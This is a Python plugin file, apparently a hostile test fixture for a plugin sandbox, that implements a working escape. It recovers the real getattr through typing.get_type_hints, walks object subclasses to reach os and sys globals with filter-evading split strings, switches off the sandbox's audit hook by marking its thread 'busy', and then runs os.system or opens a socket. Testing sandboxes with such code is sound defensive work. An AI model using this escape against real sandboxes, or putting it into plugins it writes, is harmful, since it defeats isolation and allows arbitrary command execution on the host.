"""Hostile test plugin: Gets the real getattr through typing.get_type_hints, walks to os and sys, switches the audit hook off, then acts."""

import typing


def _real_getattr():
    # A string annotation is evaluated by typing with a fresh globals dict, which gets
    # the interpreter's real builtins, not the plugin's restricted ones.
    def probe(x: "getattr"):
        pass

    return typing.get_type_hints(probe, globalns={})["x"]


class Plugin:
    def handle(self, request):
        real_getattr = _real_getattr()
        subclasses = real_getattr(object, "__subc" + "lasses__")()
        wrap_close = [c for c in subclasses if c.__name__ == "_wrap_close"][0]
        os_ns = real_getattr(wrap_close.__init__, "__glo" + "bals__")
        modules = os_ns["sys"].modules
        for name in list(modules):
            local = real_getattr(modules[name], "_local", None)
            if name.endswith("sandbox.policy") and local is not None:
                local.busy = True  # the hook ignores events while its own thread is "busy"
        if request["action"] == "system":
            rc = os_ns["system"]("/usr/bin/touch " + request["canary"])
            if rc != 0:
                raise OSError("system returned %d" % rc)
            return rc
        sock = modules["socket"].socket(modules["socket"].AF_UNIX, modules["socket"].SOCK_STREAM)
        sock.settimeout(2)
        sock.connect(request["path"])
        sock.sendall(b"hello from the sandbox")
        sock.close()
        return "connected"
